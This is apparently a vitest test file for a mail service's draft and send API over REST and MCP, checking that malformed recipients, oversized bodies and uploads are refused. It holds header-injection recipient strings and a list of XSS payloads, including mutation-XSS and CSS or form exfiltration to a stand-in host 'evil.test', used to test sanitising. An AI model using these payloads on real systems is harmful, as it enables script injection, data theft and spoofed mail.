/** Bad input for writing and sending, over REST and MCP: the response names the fault; nothing is stored or sent. */
import { request } from 'node:http'
import { beforeAll, expect, test } from 'vitest'
import type { Account } from '../../contract/accounts.ts'
import type { Draft, MessageContent } from '../../contract/draft.ts'
import { draftBounds } from '../../contract/draft.ts'
import { api } from '../../contract/index.ts'
import { MemoryGateway } from '../../server/imap/adapters/memory-gateway.ts'
import { type Database, openDatabase } from '../../server/platform/database/database.ts'
import { callTool, connectMcp } from '../support/mcp-client.ts'
import { type People, type Proof, runApp } from '../support/people.ts'
import { SmtpSink } from '../support/smtp-sink.ts'

let people: People
let db: Database
let account: string
let proof: Proof
let drafts: string
const sink = new SmtpSink({ password: 'secret' })

beforeAll(async () => {
  const port = await sink.start()
  const gateway = new MemoryGateway()
  const started = await runApp({
    overrides: { gateway, openDatabase: observer => (db = openDatabase('sqlite::memory:', observer)) },
  })
  people = started.people
  const imap = { host: 'mail.example.org', port: 993, tls: 'implicit', user: 'ann', password: 'secret' }
  const smtp = { host: '127.0.0.1', port, tls: 'none', user: 'me', password: 'secret' }
  const path = `${api.accounts.createAccount.path}?verify=false`
  account = (await people.tell<Account>(people.admin, 'POST', path, { email: 'ann@example.org', imap, smtp })).id
  proof = (await people.token(['mail:send'], [account])).proof
  drafts = `/api/v1/accounts/${account}/drafts`
  return async () => {
    await started.stop()
    await sink.stop()
  }
})

const body = { format: 'text', content: 'At noon?' }
const count = async (table: 'drafts' | 'submissions') =>
  Number(
    (
      await db
        .selectFrom(table)
        .select(({ fn }) => fn.countAll<number>().as('count'))
        .executeTakeFirstOrThrow()
    ).count,
  )
const stored = async () => [await count('drafts'), await count('submissions')]
const people500 = (make: (index: number) => unknown, length: number = draftBounds.recipients) =>
  Array.from({ length }, (_, index) => make(index))

interface Refused {
  status: number
  code: string
  detail: string
  errors: { path: string; message: string }[]
}

async function rest(input: object): Promise<Refused> {
  const { status, text } = await people.ask(proof, 'POST', drafts, { subject: 'x', body, ...input })
  const { code = 'ok', detail = '', errors = [] } = JSON.parse(text) as Partial<Refused>
  return { status, code, detail, errors }
}

async function mcp(input: Record<string, unknown>) {
  const client = await connectMcp(people.url, proof)
  const { isError, value } = await callTool(client, 'mail_draft', { account, subject: 'x', body: 'At noon?', ...input })
  return { isError, code: String(value.code ?? ''), message: String(value.message ?? '') }
}

const plain = 'write the plain address'
const group = 'names a group or several addresses'
const none = 'is not an email address'
/** Bad items of `to`, each with its complaint, which is the same over MCP. */
const bad: [name: string, recipient: string, words: string][] = [
  ['a line end', 'anne@there.test\r\nBcc: eve@evil.test', 'one line'],
  ['a bare LF in the name', 'Anne\nBcc: eve@evil.test <anne@there.test>', 'one line'],
  ['NUL', 'anne\0@there.test', 'one line'],
  ['a group', 'Friends: anne@there.test, bob@there.test;', group],
  ['an empty group', 'undisclosed-recipients:;', group],
  ['two addresses', 'anne@there.test; bob@there.test', group],
  ['two addresses with a comma', 'anne@there.test, bob@there.test', none],
  ['a quoted local part', '"anne smith"@there.test', plain],
  ['a comment', 'anne(home)@there.test', plain],
  ['a comment behind it', 'anne@there.test (home)', plain],
  ['a source route', '<@relay.test:anne@there.test>', group],
  ['no domain', 'anne@', none],
  ['no local part', '@there.test', none],
  ['two dots', 'anne..smith@there.test', none],
  ['a dot at the end', 'anne.@there.test', none],
  ['a local part that is too long', `${'a'.repeat(65)}@there.test`, none],
  ['a domain of dots', 'anne@..', none],
  ['a domain literal', 'anne@[127.0.0.1]', none],
  ['nested brackets', 'Anne <<anne@there.test>>', none],
  ['an invisible character', 'anne\u200b@there.test', none],
  ['a reversed text', 'anne@there.test\u202e', none],
]

test.each(bad)('a recipient with %s is refused with its path', async (_name, recipient, words) => {
  const before = await stored()
  const answer = await rest({ to: ['bob@there.test', recipient] })
  expect(answer).toMatchObject({ status: 400, code: 'bad_request' })
  expect(answer.errors).toContainEqual({ path: 'body.to.1', message: expect.stringContaining(words) })
  const told = await mcp({ to: ['bob@there.test', recipient] })
  expect(told).toEqual({ isError: true, code: 'bad_request', message: expect.stringContaining(words) })
  expect(told.message).toMatch(/^to\.1: /)
  for (const list of ['cc', 'bcc'] as const)
    expect((await rest({ [list]: [recipient] })).errors[0]!.path).toBe(`body.${list}.0`)
  expect(await stored()).toEqual(before)
})

test.each([
  ['strings', (index: number) => `a${index}@there.test`],
  ['objects', (index: number) => ({ email: `a${index}@there.test`, name: `A ${index}` })],
  ['broken strings', () => 'x'],
])(
  'too many recipients as %s are refused with the path and the bound, and as many as may be are taken',
  async (name, make) => {
    const before = await stored()
    for (const length of [draftBounds.recipients + 1, 10_000]) {
      const answer = await rest({ to: people500(make, length) })
      expect([name, length, answer.status, answer.code]).toEqual([name, length, 400, 'bad_request'])
      const fault = answer.errors.find(({ path }) => path === 'body.to')
      // JSON that is too large to parse hits another bound first.
      expect(fault?.message).toMatch(name === 'objects' && length === 10_000 ? /4,000 names/ : /500/)
    }
    expect(await stored()).toEqual(before)
    if (name === 'broken strings') return
    const whole = await people.ask(proof, 'POST', drafts, { subject: 'x', body, to: people500(make) })
    expect([name, whole.status]).toEqual([name, 201])
    const { to, id, rev } = JSON.parse(whole.text) as Draft
    expect(to.length).toBe(draftBounds.recipients)
    const replaced = { rev, to: [], bcc: people500(make) }
    expect((await people.ask(proof, 'PATCH', `${drafts}/${id}`, replaced)).status).toBe(200)
  },
)

test('recipients of all lists count together', async () => {
  const half = (list: string) => people500(index => `${list}${index}@there.test`, 300)
  const answer = await rest({ to: half('a'), cc: half('b') })
  expect(answer.errors).toEqual([{ path: 'body.to', message: expect.stringContaining('500') }])
  const told = await mcp({ to: half('a'), cc: half('b') })
  expect(told).toMatchObject({ isError: true, message: expect.stringContaining('500') })
  expect((await mcp({ to: people500(() => 'a@there.test', 501) })).message).toMatch(/^to: .*500/)
})

test('IDN, SMTPUTF8 and names with specials are taken, and stand in the header as one address each', async () => {
  const to = [
    'Jörg <jörg@bücher.example>',
    'Doe, John <john@there.test>',
    '"Smith; \\"Jim\\"" <jim@there.test>',
    'a@b <c@there.test>',
    '=?utf-8?q?Eve?= <eve@there.test>',
  ]
  const draft = await people.tell<Draft>(proof, 'POST', drafts, { to, subject: 'x', body })
  const { envelope, headers } = await people.tell<MessageContent>(proof, 'GET', `${drafts}/${draft.id}/preview`)
  const addresses = [
    'jörg@xn--bcher-kva.example',
    'john@there.test',
    'jim@there.test',
    'c@there.test',
    'eve@there.test',
  ]
  expect(envelope.to).toEqual(addresses)
  const raw = await people.ask(proof, 'GET', `${drafts}/${draft.id}/raw`)
  const field = /^To: (.*(?:\r\n[ \t].*)*)/m.exec(raw.text)![1]!.replaceAll(/\r\n[ \t]/g, ' ')
  // Without its quoted and encoded parts, nothing in the field starts another address.
  const bare = field.replaceAll(/"(?:[^"\\]|\\.)*"/g, 'Q')
  expect(bare.match(/</g)).toHaveLength(5)
  expect(bare.split(',')).toHaveLength(5)
  expect(headers.filter(({ name }) => /^(to|bcc|cc)$/i.test(name))).toHaveLength(1)
})

const hostile: [name: string, html: string][] = [
  ['script', '<script>steal()</script><SCRIPT SRC=//evil.test/x></SCRIPT>'],
  ['events', '<img src=x onerror=steal()><body onload=steal()><a onclick="steal()">a</a>'],
  [
    'CSS imports',
    '<style>@import url(//evil.test/steal.css); a{background:url(//evil.test/steal)}</style><b style="background:url(//evil.test/steal)">b</b>',
  ],
  ['expressions', '<b style="width:expression(steal());behavior:url(//evil.test/steal)">b</b>'],
  [
    'forms',
    '<form action="//evil.test/steal"><input name=steal><button formaction="//evil.test/steal">b</button></form>',
  ],
  [
    'SVG',
    '<svg onload=steal()><script>steal()</script><use href="//evil.test/steal"/><animate attributeName=href values="javascript:steal()"/></svg>',
  ],
  ['MathML', '<math><mtext><table><mglyph><style><img src onerror=steal()></style></mglyph></table></mtext></math>'],
  ['a mutation', '<svg></p><style><a id="</style><img src=1 onerror=steal()>">'],
  ['a mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=steal()>">'],
  [
    'a mutation by templates',
    '<template><img src=x onerror=steal()></template><xmp><img title="</xmp><img src onerror=steal()>"></xmp>',
  ],
  ['a mutation by comments', '<!--><img src=x onerror=steal()>--><!--!><svg onload=steal()>--!>'],
  [
    'links',
    '<a href="javascript:steal()">a</a><a href="JaVa&#10;Script:steal()">b</a><a href="data:text/html,<script>steal()</script>">c</a>',
  ],
  [
    'frames',
    '<iframe srcdoc="<script>steal()</script>"></iframe><object data="//evil.test/steal"></object><embed src="//evil.test/steal">',
  ],
  [
    'a base and a refresh',
    '<base href="//evil.test/steal"><meta http-equiv=refresh content="0;url=//evil.test/steal">',
  ],
]

test.each(hostile)('HTML with %s leaves without it', async (_name, html) => {
  for (const format of ['html', 'markdown'] as const) {
    const content = `Hello\n\n${html}\n\nGoodbye`
    const draft = await people.tell<Draft>(proof, 'POST', drafts, {
      subject: 'x',
      to: ['a@there.test'],
      body: { format, content },
    })
    const shown = await people.tell<MessageContent>(proof, 'GET', `${drafts}/${draft.id}/preview`)
    const raw = await people.ask(proof, 'GET', `${drafts}/${draft.id}/raw`)
    const sent = htmlOf(raw.text)
    for (const written of [shown.html ?? '', sent]) {
      expect(written).toMatch(/Hello/)
      // Text may stay as text; nothing of it is markup.
      const tags = (written.match(/<[^>]*>/g) ?? []).join('\n').replaceAll(/title="[^"]*"/g, '')
      expect(tags).not.toMatch(
        /steal|<(script|iframe|object|embed|form|svg|math|base|meta http-equiv|template|noscript)|\son\w+=/i,
      )
      expect(written.replaceAll(/&lt;[^<]*/g, '')).not.toMatch(/@import|url\(|expression\(/i)
    }
  }
})

/** Returns the HTML of the outgoing message. */
function htmlOf(raw: string): string {
  const part = /Content-Type: text\/html[\s\S]*?\r\n\r\n([\s\S]*?)(?:\r\n--|$)/i.exec(raw)?.[1] ?? ''
  return part
    .replaceAll(/=\r\n/g, '')
    .replaceAll(/=([0-9A-F]{2})/g, (_all, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
}

test('a text that is too long is refused: what fits into a request with its path, more before it is read', async () => {
  const before = await stored()
  const long = await rest({ body: { format: 'html', content: 'x'.repeat(draftBounds.body + 1) } })
  expect(long.errors).toEqual([
    { path: 'body.body.content', message: expect.stringContaining(String(draftBounds.body)) },
  ])
  expect(await rest({ body: { format: 'text', content: 'x'.repeat(10 * 1024 * 1024) } })).toMatchObject({
    ...{ status: 413, code: 'too_large', detail: expect.stringContaining('4096 KiB') },
  })
  const client = await connectMcp(people.url, proof)
  await expect(callTool(client, 'mail_draft', { account, body: 'x'.repeat(10 * 1024 * 1024) })).rejects.toThrow(
    /413|too large|64 KiB/i,
  )
  expect(await stored()).toEqual(before)
})

test('sending what cannot be sent is refused with a reason', async () => {
  const empty = await people.tell<Draft>(proof, 'POST', drafts, { subject: 'x', body })
  const sent = await people.ask(proof, 'POST', `${drafts}/${empty.id}/send`, { rev: 1 })
  expect(JSON.parse(sent.text)).toMatchObject({ status: 422, code: 'no_recipients' })
  const client = await connectMcp(people.url, proof)
  for (const [input, code] of [
    [{ draft: empty.id, rev: 1 }, 'no_recipients'],
    [{ draft: empty.id, rev: 2 }, 'draft_changed'],
    [{ draft: `d${'x'.repeat(21)}`, rev: 1 }, 'draft_not_found'],
    [{ draft: 'x\r\n', rev: 1 }, 'bad_request'],
    [{ draft: empty.id, rev: 1, at: 'tomorrow' }, 'bad_request'],
  ] as const) {
    const { isError, value } = await callTool(client, 'mail_send', input)
    expect([input, isError, value.code]).toEqual([input, true, code])
  }
  expect(sink.taken).toEqual([])
})

const mega = 1024 * 1024

/** Sends until a response comes, or to the end. @returns The response, the bytes sent, and the `Connection` header. */
async function uploadOf(draft: Draft, sizeBytes: number, declared: boolean) {
  const path = `${drafts}/${draft.id}/attachments?rev=${draft.rev}&name=large.bin`
  const { promise, resolve } = Promise.withResolvers<{ status: number; text: string; connection: string | undefined }>()
  const length = declared ? { 'content-length': String(sizeBytes) } : { 'transfer-encoding': 'chunked' }
  const asked = request(people.url + path, {
    method: 'POST',
    headers: { ...proof, ...length, expect: '100-continue', 'content-type': 'application/octet-stream' },
  })
  let sent = 0
  let isAnswered = false
  asked.on('response', response => {
    isAnswered = true
    let text = ''
    response.setEncoding('utf8')
    response.on('data', piece => {
      text += piece
    })
    response.on('end', () => resolve({ status: response.statusCode!, text, connection: response.headers.connection }))
  })
  asked.on('error', () => undefined)
  asked.on('continue', () => {
    const piece = Buffer.alloc(64 * 1024)
    const more = () => {
      while (!isAnswered && sent < sizeBytes) {
        sent += piece.length
        if (!asked.write(piece)) return void asked.once('drain', more)
      }
      if (!isAnswered) asked.end()
    }
    more()
  })
  asked.flushHeaders()
  const answer = await promise
  asked.destroy()
  return { ...answer, sent }
}

test.each([
  ['says how long it is', true],
  ['does not say how long it is', false],
])('an attachment of 100 MB that %s is refused, and nothing of it is left', async (_name, declared) => {
  const draft = await people.tell<Draft>(proof, 'POST', drafts, { subject: 'x', body })
  const { status, text, sent, connection } = await uploadOf(draft, 100 * mega, declared)
  expect([status, JSON.parse(text)]).toEqual([413, expect.objectContaining({ code: 'too_large' })])
  expect(text).toContain('30 MiB')
  expect(connection).toBe('close')
  // A declared size is refused up front; otherwise the server reads at most the limit, plus what buffers hold.
  expect(sent).toBeLessThanOrEqual(declared ? 0 : 50 * mega)
  // Only small, whole messages are stored: those that are copied to the mailbox.
  const large = await db.selectFrom('blob_chunks').select('blob_id').where('position', '>', 0).execute()
  expect(large).toEqual([])
  // A copy may be being written at this moment, and is whole soon; what is left behind stays.
  const unfinished = () => db.selectFrom('blobs').select('id').where('size_bytes', 'is', null).execute()
  await expect.poll(unfinished).toEqual([])
  expect((await people.tell<Draft>(proof, 'GET', `${drafts}/${draft.id}`)).attachments).toEqual([])
})
